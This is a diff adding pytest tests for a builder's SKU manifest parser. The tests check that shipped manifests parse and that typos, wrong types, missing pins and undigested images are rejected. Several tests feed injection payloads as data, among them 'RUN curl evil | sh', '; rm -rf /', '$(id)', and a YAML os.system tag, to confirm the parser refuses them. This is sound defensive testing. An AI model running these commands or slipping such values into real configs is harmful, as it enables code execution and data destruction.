@@ -1,0 +1,313 @@
+"""parse_manifest: every shipped SKU parses; every malformed manifest is refused with named problems."""
+
+from __future__ import annotations
+
+from pathlib import Path
+from typing import Any
+
+import pytest
+import yaml
+
+from builder.errors import ManifestError
+from builder.manifest import SkuManifest, _problem, load_manifest, parse_manifest
+
+ROOT = Path(__file__).resolve().parents[2]
+SKUS = ROOT / "skus"
+SHIPPED = sorted(SKUS.glob("*.yaml"))
+
+
+def _field_path_bug() -> bool:
+    """True while parse_manifest drops 'base'/'url' from field paths (it strips source tags anywhere)."""
+    err = {"loc": ("base", "image"), "type": "value_error", "msg": "x", "input": "y"}
+    return _problem("f", err).field != "base.image"
+
+
+# Reported to the lead: builder/manifest.py:_problem removes every loc part named like a source
+# kind ('base', 'url', 'index', ...), so base.image reads 'image' and source.url reads 'source'.
+# These tests assert the right paths and run normally once that is fixed.
+needs_field_fix = pytest.mark.xfail(_field_path_bug(), reason="manifest._problem strips 'base'/'url' from paths", strict=True)
+
+
+def base_dict(sku: str = "nvidia-h200-vllm") -> dict[str, Any]:
+    return yaml.safe_load((SKUS / f"{sku}.yaml").read_text())
+
+
+def write(tmp_path: Path, data: dict[str, Any] | str, name: str | None = None) -> Path:
+    if isinstance(data, dict):
+        name = name or data.get("name", "x")
+        text = yaml.safe_dump(data, sort_keys=False)
+    else:
+        text = data
+    path = tmp_path / f"{name or 'x'}.yaml"
+    path.write_text(text)
+    return path
+
+
+def put(data: dict[str, Any], dotted: str, value: Any) -> dict[str, Any]:
+    """Set data[a][b][c] = value for dotted 'a.b.c' (creating nothing but the leaf)."""
+    *parents, leaf = dotted.split(".")
+    node = data
+    for key in parents:
+        node = node[key]
+    node[leaf] = value
+    return data
+
+
+def problems_of(tmp_path: Path, data: dict[str, Any] | str, name: str | None = None):
+    path = write(tmp_path, data, name)
+    manifest, problems = parse_manifest(path)
+    assert manifest is None, "an invalid manifest must not come back"
+    assert problems
+    return path, problems
+
+
+# ---------------------------------------------------------------- shipped SKUs
+
+
+def test_at_least_the_required_skus_ship():
+    names = {p.stem for p in SHIPPED}
+    assert {"cpu-x86_64", "nvidia-h100-vllm", "nvidia-h200-vllm", "amd-mi300x-vllm", "amd-mi355x-vllm",
+            "nvidia-h200-sglang"} <= names
+    assert any(n.startswith("intel-") for n in names)
+
+
+@pytest.mark.parametrize("path", SHIPPED, ids=lambda p: p.stem)
+def test_every_shipped_sku_parses(path):
+    manifest, problems = parse_manifest(path)
+    assert problems == []
+    assert isinstance(manifest, SkuManifest) and manifest.name == path.stem
+    for role, pin in manifest.stack.pins().items():
+        assert pin.name and pin.version, role
+        if pin.name == "none":
+            assert pin.reason, role
+
+
+@pytest.mark.parametrize("path", SHIPPED, ids=lambda p: p.stem)
+def test_every_shipped_sku_has_a_header_comment(path):
+    lines = path.read_text().splitlines()
+    header = [line for line in lines[:12] if line.startswith("#") and "yaml-language-server" not in line]
+    assert len(header) >= 2, "a short header says what the SKU is and where its versions come from"
+
+
+def test_gpu_skus_have_the_runtime_they_need():
+    for path in SHIPPED:
+        m = load_manifest(path)
+        if m.accelerator.vendor == "nvidia":
+            assert m.runtime.gpus == "all" and m.stack.driver.name == "nvidia"
+        if m.accelerator.vendor == "amd":
+            assert {"/dev/kfd", "/dev/dri"} <= set(m.runtime.devices)
+            assert {"video", "render"} <= set(m.runtime.group_add)
+        if m.accelerator.vendor != "cpu":
+            assert m.runtime.ipc == "host" and m.base.image is not None
+
+
+# ---------------------------------------------------------------- typos, types, missing
+
+
+def test_typo_key_gets_did_you_mean(tmp_path):
+    data = base_dict()
+    data["stack"]["compiler"]["verison"] = data["stack"]["compiler"].pop("version")
+    path, problems = problems_of(tmp_path, data)
+    by_field = {p.field: p for p in problems}
+    assert "stack.compiler.verison" in by_field
+    assert by_field["stack.compiler.verison"].message == "unknown key"
+    assert "did you mean 'version'" in by_field["stack.compiler.verison"].fix
+    assert "stack.compiler.version" in by_field and "missing" in by_field["stack.compiler.version"].message
+    assert all(p.file.endswith(path.name) for p in problems)
+
+
+def test_top_level_typo(tmp_path):
+    data = base_dict()
+    data["runtme"] = data.pop("runtime")
+    _, problems = problems_of(tmp_path, data)
+    (p,) = [p for p in problems if p.field == "runtme"]
+    assert "did you mean 'runtime'" in p.fix
+
+
+@pytest.mark.parametrize(
+    ("field", "value", "words"),
+    [
+        ("accelerator.count", "eight", "integer"),
+        ("cost.hourly_usd", "cheap", "number"),
+        ("gate.batch_size", [8], "integer"),
+        ("runtime.gpus", "some", "all"),
+        ("gate.dtype", "float8", "bfloat16"),
+    ],
+)
+def test_wrong_type(tmp_path, field, value, words):
+    _, problems = problems_of(tmp_path, put(base_dict(), field, value))
+    (p,) = [p for p in problems if p.field == field]
+    assert words in p.message
+
+
+def test_name_must_equal_file_stem(tmp_path):
+    data = base_dict()
+    path = write(tmp_path, data, name="other-name")
+    manifest, problems = parse_manifest(path)
+    assert manifest is None
+    (p,) = problems
+    assert p.field == "name" and "other-name" in p.fix
+
+
+# ---------------------------------------------------------------- injection
+
+
+def test_value_with_newline(tmp_path):
+    _, problems = problems_of(tmp_path, put(base_dict(), "stack.engine.version", "0.32.0\nRUN curl evil | sh"))
+    assert any(p.field == "stack.engine.version" and "newline" in p.message for p in problems)
+
+
+def test_env_value_with_newline(tmp_path):
+    _, problems = problems_of(tmp_path, put(base_dict(), "runtime.env", {"A": "1\nRUN id"}))
+    assert any(p.field == "runtime.env.A" for p in problems)
+
+
+SHELL = ["; rm -rf /", "$(id)", "`id`", "&& id", "| sh", "${HOME}", "'quoted'", '"quoted"', "a\\b"]
+
+INJECTABLE = [
+    "stack.engine.version",
+    "stack.framework.version",
+    "stack.compiler.name",
+    "stack.framework.variant",
+    "name",
+    "accelerator.device",
+    "accelerator.arch",
+    pytest.param("stack.framework.source.url", marks=needs_field_fix),
+    pytest.param("base.image", marks=needs_field_fix),
+    pytest.param("base.os", marks=needs_field_fix),
+    "gate.reference",
+    "gate.model",
+]
+
+
+@pytest.mark.parametrize("payload", SHELL, ids=range(len(SHELL)))
+@pytest.mark.parametrize("field", INJECTABLE)
+def test_shell_metacharacters_refused(tmp_path, field, payload):
+    data = base_dict()
+    old = data
+    for key in field.split(".")[:-1]:
+        old = old[key]
+    value = f"{old[field.split('.')[-1]]}{payload}"
+    put(data, field, value)
+    path = write(tmp_path, data, name=data["name"] if field != "name" else "nvidia-h200-vllm")
+    manifest, problems = parse_manifest(path)
+    assert manifest is None
+    assert any(p.field == field for p in problems), [str(p) for p in problems]
+
+
+@pytest.mark.parametrize("payload", SHELL, ids=range(len(SHELL)))
+def test_shell_metacharacters_in_env_value_refused(tmp_path, payload):
+    _, problems = problems_of(tmp_path, put(base_dict(), "runtime.env", {"VLLM_LOGGING_LEVEL": f"INFO{payload}"}))
+    assert any(p.field.startswith("runtime.env") for p in problems), [str(p) for p in problems]
+
+
+@pytest.mark.parametrize("key", ["A;B", "$(id)", "1ABC", "A B"])
+def test_bad_env_names_refused(tmp_path, key):
+    _, problems = problems_of(tmp_path, put(base_dict(), "runtime.env", {key: "1"}))
+    assert any(p.field.startswith("runtime.env") for p in problems), [str(p) for p in problems]
+
+
+@pytest.mark.parametrize("ref", ["v0.25.1; rm -rf /", "$(id)", "-x", "`id`"])
+def test_git_ref_refused(tmp_path, ref):
+    data = base_dict("amd-mi300x-vllm")
+    data["stack"]["engine"]["source"]["ref"] = ref
+    _, problems = problems_of(tmp_path, data)
+    assert any(p.field == "stack.engine.source.ref" for p in problems), [str(p) for p in problems]
+
+
+# ---------------------------------------------------------------- base and pins
+
+
+@needs_field_fix
+def test_image_without_digest(tmp_path):
+    data = put(base_dict(), "base.image", "docker.io/nvidia/cuda:13.0.2-runtime-ubuntu24.04")
+    _, problems = problems_of(tmp_path, data)
+    (p,) = [p for p in problems if p.field == "base.image"]
+    assert "digest" in p.message
+
+
+@needs_field_fix
+def test_both_image_and_bootstrap(tmp_path):
+    data = base_dict()
+    data["base"]["bootstrap"] = {"tool": "debootstrap", "suite": "bookworm"}
+    _, problems = problems_of(tmp_path, data)
+    assert any(p.field == "base" and "exactly one" in p.message for p in problems)
+
+
+@needs_field_fix
+def test_neither_image_nor_bootstrap(tmp_path):
+    data = base_dict()
+    del data["base"]["image"]
+    _, problems = problems_of(tmp_path, data)
+    assert any(p.field == "base" and "exactly one" in p.message for p in problems)
+
+
+def test_none_pin_without_reason(tmp_path):
+    data = base_dict("cpu-x86_64")
+    del data["stack"]["driver"]["reason"]
+    _, problems = problems_of(tmp_path, data)
+    (p,) = [p for p in problems if p.field == "stack.driver"]
+    assert "reason" in p.message
+
+
+def test_pin_with_version_none_but_a_name(tmp_path):
+    _, problems = problems_of(tmp_path, put(base_dict(), "stack.engine.version", "none"))
+    assert any(p.field == "stack.engine" and "exact version" in p.message for p in problems)
+
+
+def test_missing_pin(tmp_path):
+    data = base_dict()
+    del data["stack"]["compiler"]
+    _, problems = problems_of(tmp_path, data)
+    assert [p.field for p in problems] == ["stack.compiler"]
+
+
+# ---------------------------------------------------------------- every problem at once; YAML
+
+
+@needs_field_fix
+def test_three_errors_give_three_lines(tmp_path):
+    data = base_dict()
+    data["stack"]["engine"]["versoin"] = "1"  # typo
+    data["accelerator"]["count"] = "eight"  # wrong type
+    data["base"]["image"] = "ubuntu:24.04"  # no digest
+    path, problems = problems_of(tmp_path, data)
+    assert sorted(p.field for p in problems) == ["accelerator.count", "base.image", "stack.engine.versoin"]
+    lines = [str(p) for p in problems]
+    assert all(line.startswith(f"{problems[0].file}: ") for line in lines)
+    assert len(set(lines)) == 3
+
+
+def test_load_manifest_raises_with_every_problem(tmp_path):
+    data = base_dict()
+    data["accelerator"]["count"] = "eight"
+    data["base"]["image"] = "ubuntu:24.04"
+    path = write(tmp_path, data)
+    with pytest.raises(ManifestError) as info:
+        load_manifest(path)
+    assert info.value.exit_code == 2
+    assert len(info.value.lines()) == 2
+
+
+def test_duplicate_yaml_keys_refused(tmp_path):
+    text = (SKUS / "nvidia-h200-vllm.yaml").read_text().replace(
+        "schema_version: 1\n", "schema_version: 1\nname: evil\n", 1
+    )
+    _, problems = problems_of(tmp_path, text, name="nvidia-h200-vllm")
+    (p,) = problems
+    assert p.field == "(yaml)" and "duplicate key 'name'" in p.message
+
+
+def test_not_a_mapping(tmp_path):
+    _, problems = problems_of(tmp_path, "- a\n- b\n")
+    assert problems[0].field == "(top)"
+
+
+def test_yaml_syntax_error(tmp_path):
+    _, problems = problems_of(tmp_path, "name: [unclosed\n")
+    assert problems[0].field == "(yaml)" and problems[0].fix
+
+
+def test_yaml_tags_are_not_executed(tmp_path):
+    _, problems = problems_of(tmp_path, "name: !!python/object/apply:os.system ['id']\n")
+    assert problems[0].field == "(yaml)"
